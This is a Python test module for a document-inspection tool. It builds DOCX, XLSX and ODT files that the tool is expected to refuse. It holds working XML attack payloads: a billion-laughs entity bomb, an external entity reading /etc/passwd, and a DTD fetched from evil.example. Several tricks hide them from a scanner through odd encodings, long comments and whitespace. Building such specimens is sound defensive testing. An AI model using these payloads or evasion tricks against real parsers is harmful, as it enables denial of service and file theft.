"""Parts of office documents that declare a document type, or hide it in another encoding."""

from collections.abc import Callable

from tests.inspection.corpus import office
from tests.inspection.corpus.specimen import Specimen, refused
from tests.inspection.corpus.zips import Member, archive

D, X, T = "Konzept.docx", "Kostenplan.xlsx", "Vorlage.odt"
MAIN = "word/document.xml"
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]><a>&a9;</a>"
)
FETCHING = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:/etc/passwd">]><a>&b;</a>'
REMOTE = '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'
UTF_7 = "+ADwAIQ-DOCTYPE a+AD4APA-a/+AD4-"


def part(content: str | bytes, name: str = MAIN) -> Callable[[], bytes]:
    """A DOCX with this part."""
    return lambda: office.docx_with({name: content})


def declared(encoding: str, rest: str = "<a/>") -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>{rest}'


def across_pieces() -> bytes:
    """The word begins within one unpacked piece and ends in the next."""
    comment = f"<!--{'x' * (256 * 1024 - 12)}-->"
    return office.docx_with({MAIN: comment + REMOTE})


def beyond_the_budget() -> bytes:
    """In a part so large that only its beginning is looked at."""
    stored = (FETCHING + "<!-- -->" * 1_200_000).encode()
    return archive([*office.members(office.docx_parts()), Member("word/a.xml", stored)])


def large_behind_comment() -> bytes:
    return office.docx_with({"word/a.xml": f"<!--{'x' * 5_000_000}-->{REMOTE}"})


HOSTILE: tuple[Specimen, ...] = (
    refused("xml_doctype", D, "a billion laughs", part(LAUGHS)),
    refused("xml_doctype", D, "an entity that reads a file", part(FETCHING)),
    refused("xml_doctype", D, "a document type from elsewhere", part(REMOTE)),
    refused("xml_doctype", D, "in small letters", part("<!doctype html><html/>")),
    refused("xml_doctype", D, "behind a declaration", part(office.XML + REMOTE)),
    refused("xml_doctype", D, "behind a mark of UTF-8", part(("\ufeff" + REMOTE).encode())),
    refused("xml_doctype", D, "behind spaces", part(" \r\n\t" * 2_000 + REMOTE)),
    refused("xml_doctype", D, "behind spaces, as picture", part(
        " " * 9_000 + REMOTE, "word/media/a.png")),
    refused("xml_doctype", D, "behind a long comment", part(f"<!--{'x' * 300_000}-->{REMOTE}")),
    refused("xml_doctype", D, "across two pieces", across_pieces),
    refused("xml_doctype", D, "in a part of many megabytes", beyond_the_budget),
    refused("xml_start", D, "behind a comment, in a large part", large_behind_comment),
    refused("xml_doctype", D, "in UTF-16", part(REMOTE.encode("utf-16"))),
    refused("xml_doctype", D, "in UTF-16, big end first", part(
        b"\xfe\xff" + REMOTE.encode("utf-16-be"))),
    refused("xml_doctype", D, "in UTF-16 without a mark", part(REMOTE.encode("utf-16-le"))),
    refused("xml_doctype", D, "in UTF-16, big, unmarked", part(REMOTE.encode("utf-16-be"))),
    refused("xml_doctype", D, "in Latin 1", part(declared("ISO-8859-1", REMOTE))),
    refused("xml_doctype", D, "in a part of another name", part(REMOTE, "word/media/a.png")),
    refused("xml_doctype", D, "in a part without an ending", part(REMOTE, "word/a")),
    refused("xml_doctype", D, "in a drawing", part(REMOTE, "word/media/a.svg")),
    refused("xml_doctype", D, "in custom XML", part(REMOTE, "customXml/item1.xml")),
    refused("xml_doctype", D, "in relationships", part(REMOTE, "word/_rels/document.xml.rels")),
    refused("xml_doctype", D, "in the first relationships", part(REMOTE, "_rels/.rels")),
    refused("xml_doctype", D, "in the table of types", part(FETCHING, "[Content_Types].xml")),
    refused("xml_doctype", D, "in properties", part(LAUGHS, "docProps/core.xml")),
    refused("xml_doctype", X, "a billion laughs in texts of cells", lambda: office.xlsx_with(
        {"xl/sharedStrings.xml": LAUGHS})),
    refused("xml_doctype", X, "in a sheet", lambda: office.xlsx_with(
        {"xl/worksheets/sheet1.xml": FETCHING})),
    refused("xml_doctype", T, "in the content", lambda: office.odt_with({"content.xml": FETCHING})),
    refused("xml_doctype", T, "in the styles", lambda: office.odt_with({"styles.xml": LAUGHS})),
    refused("xml_doctype", T, "in an object inside", lambda: office.odt_with(
        {"Object 1/content.xml": REMOTE})),
    refused("xml_encoding", D, "declared as UTF-7", part(declared("UTF-7", UTF_7))),
    refused("xml_encoding", D, "declared as utf-7 far away", part(
        f'<?xml version="1.0"{" " * 9_000}encoding="UTF-7"?>{UTF_7}')),
    refused("xml_encoding", D, "in UTF-7 and silent", part(UTF_7)),
    refused("xml_encoding", D, "in UTF-7 with a mark", part("+/v8-" + UTF_7)),
    refused("xml_encoding", D, "in UTF-32", part(REMOTE.encode("utf-32"))),
    refused("xml_encoding", D, "in UTF-32, big end first", part(REMOTE.encode("utf-32-be"))),
    refused("xml_encoding", D, "in EBCDIC", part(
        declared("cp037", REMOTE).encode("cp037"))),
    refused("xml_encoding", D, "declared as EBCDIC", part(declared("IBM037"))),
    refused("xml_encoding", D, "declared as something unknown", part(declared("x-evil"))),
    refused("xml_encoding", D, "declared in an odd way", part('<?xml encoding=UTF-7?><a/>')),
    refused("xml_encoding", D, "no XML at all", part(b"\x00\x01\x02\x03")),
    refused("xml_encoding", T, "no XML as content", lambda: office.odt_with(
        {"content.xml": "Beschluss"})),
)  # fmt: skip
